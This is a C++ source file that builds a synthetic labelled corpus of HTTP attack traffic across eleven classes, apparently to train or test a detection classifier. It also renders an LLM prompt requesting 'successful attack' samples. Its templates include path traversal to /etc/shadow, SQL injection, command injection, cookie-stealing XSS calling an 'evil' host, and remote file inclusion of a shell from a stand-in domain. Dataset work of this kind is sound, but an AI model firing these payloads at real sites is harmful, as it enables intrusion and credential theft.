#include "salm/synthgen.hpp"

#include <algorithm>
#include <cctype>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "salm/featurize.hpp"
#include "salm/rng.hpp"

namespace salm::synthgen {

using nlohmann::json;

// ---------------------------------------------------------------------------
// Built-in generation profiles

namespace {

const std::vector<std::string> kHosts = {
    "shop.acme-corp.example",  "portal.initech.example",   "api.globex.example",
    "intranet.umbrella.example", "www.soylent.example",    "files.hooli.example",
};
const std::vector<std::string> kUserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) Safari/605.1.15",
};
const std::vector<std::string> kAccepts = {
    "text/html,application/xhtml+xml,*/*;q=0.8", "application/json", "*/*",
    "text/plain, text/html"};
const std::vector<std::string> kWords = {"index", "home",  "report", "data",
                                         "portal", "login", "files",  "api"};
const std::vector<std::string> kServers = {"Apache/2.4.57 (Ubuntu)", "nginx/1.24.0",
                                           "Microsoft-IIS/10.0", "lighttpd/1.4.69"};
const std::vector<std::string> kProducts = {
    "Apache HTTPD",    "nginx ingress",   "WordPress plugin FormPress",
    "Tomcat manager",  "Jenkins server",  "GitLab instance",
    "Drupal module",   "Redis dashboard", "Spring Boot service",
    "IIS module",
};

std::vector<std::string> default_header_pool() {
  return {
      "Host: {host}",
      "User-Agent: {ua}",
      "Accept: {accept}",
      "Accept-Language: en-US,en;q=0.{digit}",
      "Accept-Encoding: gzip, deflate",
      "Connection: keep-alive",
      "Cache-Control: max-age={num}",
      "X-Forwarded-For: {ip}",
      "Referer: https://{host}/{word}",
      "X-Request-ID: {hex}",
  };
}

}  // namespace

GenSpec default_genspec() {
  GenSpec spec;
  spec.header_pool = default_header_pool();
  spec.classes = {
      {"Backdoor",
       "",
       {"/admin/.hidden/console", "/system/maintenance/entry", "/private/magic/door"},
       {"auth_token={hex}", "magic_key={hex}", "secret_knock={num}"},
       {"magic_key=", "/.hidden/console", "secret_knock"},
       {"a hidden entry point in the management interface",
        "allows unauthorized system access without credentials",
        "bypasses normal authentication checks",
        "leads to data breaches and loss of control",
        "persists as a covert access channel across restarts",
        "grants remote operators hidden control of the host"},
       {"X-Hidden-Auth: {hex}"},
       "200 OK",
       {"access granted\nsession={hex}\nwelcome back, operator",
        "channel open\ncontrol socket ready on port {num}"},
       false},
      {"CGI",
       "",
       {"/cgi-bin/status.cgi", "/cgi-bin/test-cgi", "/cgi-bin/printenv.pl"},
       {"input=%0Acat%20/etc/passwd", "query=;/usr/bin/id", "debug=1&template={{7*7}}"},
       {"/cgi-bin/", "%0Acat%20", "test-cgi"},
       {"a flaw in legacy cgi web applications",
        "improper input validation enables unauthorized actions",
        "leads to data theft and service disruption",
        "crafted requests reach the shell behind the script",
        "affects cgi handlers that trust query strings",
        "code execution through environment manipulation"},
       {},
       "200 OK",
       {"DOCUMENT_ROOT=/var/www\nSERVER_SOFTWARE={ua}\nuid=0(root) gid=0(root)",
        "exec ok\nuid=33(www-data) groups=33(www-data)"},
       false},
      {"Dir-traversal",
       "",
       {"/download", "/static/fetch", "/view"},
       {"file=../../../../etc/passwd", "path=..%2f..%2f..%2fetc%2fshadow",
        "doc=....//....//etc/hosts"},
       {"../../", "..%2f", "/etc/passwd"},
       {"a path traversal issue in the file download handler",
        "enables attackers to retrieve sensitive files",
        "unauthorized file access outside the web root",
        "traversal sequences escape the document directory",
        "system compromise through exposed credential files",
        "crafted relative paths reach arbitrary system files"},
       {},
       "200 OK",
       {"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
        "127.0.0.1 localhost\n{ip} internal-db"},
       false},
      {"DoS",
       "",
       {"/api/search", "/login", "/upload"},
       {"q={flood}&retry=999999", "size=2147483647&burst={flood}",
        "depth={num}&fanout=65535&spray={flood}"},
       {"retry=999999", "size=2147483647", "X-Flood-Sequence"},
       {"an attack aimed at rendering the service unusable",
        "resource exhaustion through oversized requests",
        "network disruption under sustained request floods",
        "denial of service via unbounded allocation",
        "exhausts worker threads and memory pools",
        "availability loss for legitimate clients"},
       {"X-Flood-Sequence: {num}"},
       "503 Service Unavailable",
       {"error: worker pool exhausted\nqueue depth exceeded at {num}",
        "upstream timed out\nretry storm detected"},
       false},
      {"Info-Disclosure",
       "",
       {"/.git/config", "/.env", "/server-status", "/debug/vars"},
       {"show=secrets", "dump=config", "verbose=1&section=credentials"},
       {"/.git/config", "/.env", "server-status"},
       {"a weakness that allows unauthorized access to internal data",
        "exposes sensitive configuration to anonymous clients",
        "may lead to identity theft or system mapping",
        "information disclosure of credentials and keys",
        "internal state leaks through diagnostic endpoints",
        "reveals environment variables and connection strings"},
       {},
       "200 OK",
       {"DB_PASSWORD=hunter{num}\nAWS_SECRET_ACCESS_KEY=wJalr{hex}\nAPP_DEBUG=true",
        "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = git@internal:{word}.git"},
       false},
      {"Injection",
       "",
       {"/products.php", "/search.php", "/login.php"},
       {"id=1'%20OR%20'1'='1", "name=admin'--&pass={hex}",
        "q=1%20UNION%20SELECT%20username,password%20FROM%20users--"},
       {"UNION%20SELECT", "'%20OR%20'1'='1", "admin'--"},
       {"a vulnerability that lets attackers inject malicious code",
        "unauthorized database manipulation through crafted input",
        "sql injection in an unsanitized query parameter",
        "system compromise via concatenated statements",
        "tampered queries return other users' records",
        "injected commands run in the database context"},
       {},
       "200 OK",
       {"id|username|password\n1|admin|5f4dcc3b5aa765d61d8327deb882cf99\n2|guest|{hex}",
        "You have an error in your SQL syntax near ''1'='1' at line 1"},
       true},
      {"Overflow",
       "",
       {"/api/firmware", "/service/parse", "/upload/header"},
       {"buf={padA}", "offset=0x41414141&len=65536&payload={padA}", "frame={padA}&mode=raw"},
       {"0x41414141", "AAAAAAAAAAAA", "len=65536"},
       {"a memory-related flaw causing crashes or unauthorized access",
        "buffer overflow in the request parser",
        "unexpected execution paths once bounds are exceeded",
        "system instability under oversized input fields",
        "overwrites return addresses with attacker data",
        "memory corruption in a native product component"},
       {},
       "500 Internal Server Error",
       {"segmentation fault at 0x41414141\nstack smashing detected: terminated",
        "core dumped (signal 11)\nframe pointer corrupted"},
       true},
      {"Remote-File-Inclusion",
       "",
       {"/index.php", "/page.php", "/render"},
       {"page=http://evil-cdn.example.net/shell.txt", "template=ftp://203.0.113.9/inc.php",
        "include=php://input&run=1"},
       {"=http://evil-cdn", "shell.txt", "php://input"},
       {"a vulnerability permitting attackers to include external malicious files",
        "unauthorized remote file execution through the include parameter",
        "fetches attacker-controlled resources into the application",
        "system compromise via remotely hosted code",
        "remote file inclusion in the template loader",
        "executes scripts retrieved from hostile servers"},
       {},
       "200 OK",
       {"remote shell loaded\nconnected back to 203.0.113.9:{num}",
        "include ok: http://evil-cdn.example.net/shell.txt\nphp warning suppressed"},
       false},
      {"Trojan",
       "",
       {"/update/check", "/cdn/installer", "/download/patch.exe"},
       {"pkg=system-update.exe&beacon_id={hex}", "campaign={num}&arch=x64",
        "beacon_id={hex}&silent=1"},
       {"beacon_id=", "patch.exe", "TrojanDownloader"},
       {"malware disguised as a legitimate software update",
        "unauthorized access and data theft after installation",
        "drops a malicious executable onto the host",
        "system compromise through a fake installer",
        "command traffic dressed up as update checks",
        "exfiltrates stored credentials to a control server"},
       {"User-Agent: TrojanDownloader/{digit}.{digit}"},
       "200 OK",
       {"MZ installer payload\nnext_beacon={num}\ncfg=aHR0cDovL2V2aWw=",
        "update available\nsha256={hex}{hex}\ninstall=silent"},
       false},
      {"Worm",
       "",
       {"/scan/next", "/replicate", "/propagate"},
       {"next_host={ip}&propagate=1", "hop={num}&propagate=1", "subnet={ip}%2F24&burst={num}"},
       {"propagate=1", "next_host=", "X-Worm-Hop"},
       {"a self-propagating malware spreading without human intervention",
        "network-wide infection through automated scanning",
        "resource depletion as replication keeps accelerating",
        "copies itself to neighboring reachable hosts",
        "spreads through exposed network services",
        "worm traffic probing for the next victim"},
       {"X-Worm-Hop: {num}"},
       "200 OK",
       {"infection acknowledged\nnext targets {ip}/24\nhop accepted",
        "replica planted\npeer count {num}"},
       false},
      {"XSS",
       "",
       {"/comment", "/profile", "/guestbook"},
       {"msg=<script>alert(1)</script>", "name=<img%20src=x%20onerror=alert(document.cookie)>",
        "bio=javascript:fetch('//evil/c%3F'%2Bdocument.cookie)"},
       {"<script>", "onerror=", "document.cookie"},
       {"a vulnerability allowing unauthorized script execution in web applications",
        "injects malicious scripts into trusted pages",
        "data theft and session hijacking through stolen cookies",
        "cross-site scripting in a reflected input field",
        "user input rendered without output encoding",
        "victim browsers execute attacker-supplied javascript"},
       {},
       "200 OK",
       {"<html><body>comment saved: <script>alert(1)</script></body></html>",
        "<div class=\"profile\">hello <img src=x onerror=alert({num})></div>"},
       true},
  };
  return spec;
}

void GenSpec::validate() const {
  if (samples_per_class < 1) throw ConfigError("genspec: samples_per_class must be >= 1");
  if (payloads_per_threat < 1) throw ConfigError("genspec: payloads_per_threat must be >= 1");
  if (classes.empty()) throw ConfigError("genspec: no classes");
  if (header_pool.size() < 8) throw ConfigError("genspec: header pool needs >= 8 templates");
  for (const auto& c : classes) {
    if (c.paths.empty() || c.param_templates.empty() || c.response_bodies.empty()) {
      throw ConfigError("genspec: class '" + c.name + "' has an empty template set");
    }
    if (c.description_phrases.size() < 3) {
      throw ConfigError("genspec: class '" + c.name + "' needs >= 3 description phrases");
    }
  }
  if (!(date_start < date_end)) throw ConfigError("genspec: date_start must precede date_end");
}

GenSpec genspec_for_classes(const GenSpec& base, const std::vector<std::string>& names) {
  auto lower = [](std::string s) {
    std::transform(s.begin(), s.end(), s.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    return s;
  };
  GenSpec out = base;
  out.classes.clear();
  for (const auto& name : names) {
    const std::string needle = lower(name);
    auto it = std::find_if(base.classes.begin(), base.classes.end(),
                           [&](const ClassProfile& c) { return lower(c.name) == needle; });
    if (it == base.classes.end()) {
      throw ConfigError("genspec: no generation profile for class '" + name + "'");
    }
    out.classes.push_back(*it);
  }
  return out;
}

GenSpec load_genspec(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw IoError("cannot open '" + path.string() + "'");
  json j;
  try {
    in >> j;
  } catch (const json::exception& e) {
    throw ParseError(path.string() + ": " + e.what());
  }
  GenSpec spec = default_genspec();
  if (j.contains("classes")) {
    spec = genspec_for_classes(spec, j.at("classes").get<std::vector<std::string>>());
  }
  if (j.contains("seed")) spec.seed = j.at("seed").get<uint64_t>();
  if (j.contains("samples_per_class")) {
    spec.samples_per_class = j.at("samples_per_class").get<size_t>();
  }
  if (j.contains("payloads_per_threat")) {
    spec.payloads_per_threat = j.at("payloads_per_threat").get<size_t>();
  }
  if (j.contains("date_start")) spec.date_start = Date::parse(j.at("date_start").get<std::string>());
  if (j.contains("date_end")) spec.date_end = Date::parse(j.at("date_end").get<std::string>());
  spec.validate();
  return spec;
}

// ---------------------------------------------------------------------------
// Template expansion

namespace {

std::string pick(const std::vector<std::string>& pool, Rng& rng) {
  return pool[rng.index(pool.size())];
}

std::string expand(std::string_view tmpl, Rng& rng) {
  std::string out;
  out.reserve(tmpl.size() + 16);
  size_t i = 0;
  while (i < tmpl.size()) {
    if (tmpl[i] != '{') {
      out.push_back(tmpl[i++]);
      continue;
    }
    const size_t close = tmpl.find('}', i);
    if (close == std::string_view::npos) {
      out.push_back(tmpl[i++]);
      continue;
    }
    const std::string_view slot = tmpl.substr(i + 1, close - i - 1);
    if (slot == "hex") {
      char buf[16];
      std::snprintf(buf, sizeof(buf), "%08x", static_cast<unsigned>(rng.below(0xffffffffULL)));
      out += buf;
    } else if (slot == "num") {
      out += std::to_string(1 + rng.below(99999));
    } else if (slot == "digit") {
      out += std::to_string(rng.below(10));
    } else if (slot == "ip") {
      out += std::to_string(10 + rng.below(200)) + "." + std::to_string(rng.below(256)) + "." +
             std::to_string(rng.below(256)) + "." + std::to_string(1 + rng.below(254));
    } else if (slot == "padA") {
      out.append(40 + rng.index(24), 'A');
    } else if (slot == "flood") {
      const size_t reps = 10 + rng.index(6);
      out += "a[]=1";
      for (size_t r = 0; r < reps; ++r) out += "&a[]=1";
    } else if (slot == "host") {
      out += pick(kHosts, rng);
    } else if (slot == "ua") {
      out += pick(kUserAgents, rng);
    } else if (slot == "accept") {
      out += pick(kAccepts, rng);
    } else if (slot == "word") {
      out += pick(kWords, rng);
    } else {
      out.append(tmpl.substr(i, close - i + 1));
    }
    i = close + 1;
  }
  return out;
}

std::string capitalized(std::string s) {
  if (!s.empty()) s[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(s[0])));
  return s;
}

std::string slug(std::string_view name) {
  std::string out;
  for (unsigned char c : name) {
    out.push_back(std::isalnum(c) ? static_cast<char>(std::tolower(c)) : '-');
  }
  return out;
}

std::string make_description(const ClassProfile& profile, Rng& rng) {
  std::vector<size_t> order = rng.permutation(profile.description_phrases.size());
  const std::string product = pick(kProducts, rng);
  const std::string version = std::to_string(1 + rng.below(9)) + "." +
                              std::to_string(rng.below(20)) + "." + std::to_string(rng.below(10));
  std::string text = capitalized(profile.description_phrases[order[0]]) + ". " +
                     capitalized(profile.description_phrases[order[1]]) + ". Observed in " +
                     product + " " + version + ". " +
                     capitalized(profile.description_phrases[order[2]]) + ".";
  return text;
}

std::string make_payload(const ClassProfile& profile, const GenSpec& spec, Rng& rng) {
  const std::string path = pick(profile.paths, rng);
  const std::string params = expand(pick(profile.param_templates, rng), rng);
  const bool post = profile.use_post && rng.below(2) == 0;
  const std::string method = post ? "POST" : "GET";

  std::string request = method + " " + path + (post ? "" : "?" + params) + " HTTP/1.1\r\n";
  for (const auto& h : spec.header_pool) request += expand(h, rng) + "\r\n";
  for (const auto& h : profile.extra_headers) request += expand(h, rng) + "\r\n";
  if (post) {
    request += "Content-Type: application/x-www-form-urlencoded\r\n";
    request += "Content-Length: " + std::to_string(params.size()) + "\r\n\r\n";
    request += params;
  }

  const std::string body = expand(pick(profile.response_bodies, rng), rng);
  std::string response = "HTTP/1.1 " + profile.response_status + "\r\n";
  response += "Server: " + pick(kServers, rng) + "\r\n";
  response += "Content-Type: text/html; charset=utf-8\r\n";
  response += "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n";
  response += body;

  return request + std::string(kResponseSeparator) + response;
}

}  // namespace

Corpus generate_template_corpus(const GenSpec& spec) {
  spec.validate();

  Corpus corpus;
  corpus.provenance = Provenance::Template;
  const auto& taxonomy = default_classes();
  for (size_t ci = 0; ci < spec.classes.size(); ++ci) {
    std::string label = spec.classes[ci].generic_label;
    if (label.empty()) {
      for (const auto& t : taxonomy) {
        if (t.name == spec.classes[ci].name) {
          label = t.generic_label;
          break;
        }
      }
    }
    if (label.empty()) {
      throw ConfigError("genspec: class '" + spec.classes[ci].name +
                        "' is not in the default taxonomy and has no generic_label");
    }
    corpus.classes.push_back({static_cast<int>(ci) + 1, spec.classes[ci].name, label});
  }

  const int64_t start_days = spec.date_start.to_days();
  const int64_t span = spec.date_end.to_days() - start_days;

  char idbuf[128];
  for (size_t ci = 0; ci < spec.classes.size(); ++ci) {
    const ClassProfile& profile = spec.classes[ci];
    const std::string class_slug = slug(profile.name);
    for (size_t t = 0; t < spec.samples_per_class; ++t) {
      Rng rng(Rng::derive(spec.seed, (ci << 32) | t));

      int64_t day = start_days +
                    static_cast<int64_t>((static_cast<double>(t) + 0.5) /
                                         static_cast<double>(spec.samples_per_class) *
                                         static_cast<double>(span));
      day += static_cast<int64_t>(rng.below(7));
      if (day > start_days + span) day = start_days + span;
      const Date published = Date::from_days(day);

      std::snprintf(idbuf, sizeof(idbuf), "T-%s-%04zu", class_slug.c_str(), t);
      const std::string threat_id = idbuf;

      Sample desc;
      std::snprintf(idbuf, sizeof(idbuf), "%s-%04zu-d", class_slug.c_str(), t);
      desc.id = idbuf;
      desc.kind = SampleKind::Description;
      desc.text = make_description(profile, rng);
      desc.class_id = static_cast<int>(ci) + 1;
      desc.published = published;
      desc.threat_id = threat_id;
      corpus.samples.push_back(std::move(desc));

      for (size_t p = 0; p < spec.payloads_per_threat; ++p) {
        Sample payload;
        std::snprintf(idbuf, sizeof(idbuf), "%s-%04zu-p%zu", class_slug.c_str(), t, p);
        payload.id = idbuf;
        payload.kind = SampleKind::Payload;
        payload.text = make_payload(profile, spec, rng);
        payload.class_id = static_cast<int>(ci) + 1;
        payload.published = published;
        payload.threat_id = threat_id;
        corpus.samples.push_back(std::move(payload));
      }
    }
  }
  corpus.validate();
  return corpus;
}

json to_synthetic_records(const Corpus& corpus) {
  json records = json::array();
  for (const auto& s : corpus.samples) {
    if (s.kind != SampleKind::Payload) continue;
    const VulnClass* c = corpus.class_by_id(s.class_id);
    records.push_back({{"Category", c ? c->name : std::to_string(s.class_id)},
                       {"HTTP Payload", s.text}});
  }
  return records;
}

void write_synthetic_json(const Corpus& corpus, const std::filesystem::path& path) {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw IoError("cannot write '" + path.string() + "'");
  out << to_synthetic_records(corpus).dump(2) << "\n";
  if (!out) throw IoError("short write to '" + path.string() + "'");
}

// ---------------------------------------------------------------------------
// Prompt rendering

std::string render_prompt(std::string_view class_name, const std::vector<std::string>& ioc_files,
                          int sample_count) {
  std::string files_line;
  for (size_t i = 0; i < ioc_files.size(); ++i) {
    if (i > 0) files_line += ", ";
    files_line += ioc_files[i];
  }

  std::string prompt;
  prompt += "You are given files containing file names related to a specific vulnerability type ";
  prompt += class_name;
  prompt += ".\n\n";
  prompt +=
      "**Strictly use only the information and examples derived from those files**. Do NOT "
      "invent payloads or behaviors beyond what is described.\n\n";
  prompt += "Generate **" + std::to_string(sample_count) +
            " realistic and complete HTTP payload samples for education** that simulate typical "
            "traffic of **successful attacks** based on the provided files.\n\n";
  prompt += "### Requirements:\n";
  prompt +=
      "1. Each sample must include a **complete and valid HTTP request** (GET or POST) and a "
      "**complete HTTP response**, both written as raw HTTP text.\n";
  prompt +=
      "   - The request must contain **at least 8 realistic HTTP headers**, and their values "
      "must vary across samples.\n";
  prompt +=
      "   - Include plausible query parameters or POST body fields relevant to the attack "
      "scenario.\n";
  prompt +=
      "2. The **response** must reflect a realistic server behavior after a successful attack "
      "(e.g., returning sensitive data, executing attacker logic, authentication bypass, "
      "internal errors, injected content).\n";
  prompt += "3. Output format: A **valid JSON array** of objects. Each object must include:\n";
  prompt += "   - `Category`: The attack category.\n";
  prompt +=
      "   - `HTTP Payload`: The raw HTTP request and response separated by "
      "`\\n\\n---RESPONSE---\\n\\n`.\n";
  prompt +=
      "4. Samples must be **diverse and unique**, covering different patterns and techniques "
      "discussed in the files.\n";
  prompt += "5. The output must be **valid JSON with no extra text**.\n";
  if (!files_line.empty()) prompt += "\nFiles: " + files_line + "\n";
  return prompt;
}

// ---------------------------------------------------------------------------
// Validation

namespace {

bool is_header_line(std::string_view line) {
  const size_t colon = line.find(':');
  if (colon == std::string_view::npos || colon == 0) return false;
  for (char c : line.substr(0, colon)) {
    if (!(std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '_')) return false;
  }
  return true;
}

size_t count_request_headers(std::string_view request) {
  size_t count = 0;
  size_t start = 0;
  bool first = true;
  while (start <= request.size()) {
    size_t end = request.find('\n', start);
    if (end == std::string_view::npos) end = request.size();
    std::string_view line = request.substr(start, end - start);
    if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
    if (first) {
      first = false;  // request line
    } else if (line.empty()) {
      break;  // blank line ends the header block
    } else if (is_header_line(line)) {
      ++count;
    }
    if (end == request.size()) break;
    start = end + 1;
  }
  return count;
}

size_t count_occurrences(std::string_view haystack, std::string_view needle) {
  size_t count = 0;
  size_t pos = 0;
  while ((pos = haystack.find(needle, pos)) != std::string_view::npos) {
    ++count;
    pos += needle.size();
  }
  return count;
}

}  // namespace

SampleValidation validate_sample(const json& record) {
  SampleValidation v;
  auto fail = [&v](std::string reason) {
    v.ok = false;
    v.violations.push_back(std::move(reason));
  };

  if (!record.is_object() || !record.contains("Category") ||
      !record.at("Category").is_string() || record.at("Category").get<std::string>().empty()) {
    fail("missing 'Category' field");
  }
  if (!record.is_object() || !record.contains("HTTP Payload") ||
      !record.at("HTTP Payload").is_string()) {
    fail("missing 'HTTP Payload' field");
    return v;
  }

  const std::string payload = record.at("HTTP Payload").get<std::string>();
  const size_t separators = count_occurrences(payload, kResponseSeparator);
  if (separators == 0) {
    fail("missing response separator");
    return v;
  }
  if (separators > 1) {
    fail("multiple response separators (" + std::to_string(separators) + ")");
  }

  const size_t pos = payload.find(kResponseSeparator);
  const std::string_view request = std::string_view(payload).substr(0, pos);
  const std::string_view response =
      std::string_view(payload).substr(pos + kResponseSeparator.size());
  if (request.empty()) fail("empty request part");
  if (response.empty()) fail("empty response part");

  if (!request.empty()) {
    const size_t headers = count_request_headers(request);
    if (headers < 8) {
      fail("request contains " + std::to_string(headers) +
           " header lines; at least 8 required");
    }
  }
  return v;
}

std::vector<std::vector<size_t>> find_duplicate_payloads(const json& records) {
  std::map<std::string, std::vector<size_t>> groups;
  for (size_t i = 0; i < records.size(); ++i) {
    const auto& rec = records[i];
    if (rec.is_object() && rec.contains("HTTP Payload") && rec.at("HTTP Payload").is_string()) {
      groups[rec.at("HTTP Payload").get<std::string>()].push_back(i);
    }
  }
  std::vector<std::vector<size_t>> out;
  for (auto& [payload, indices] : groups) {
    if (indices.size() > 1) out.push_back(std::move(indices));
  }
  return out;
}

}  // namespace salm::synthgen
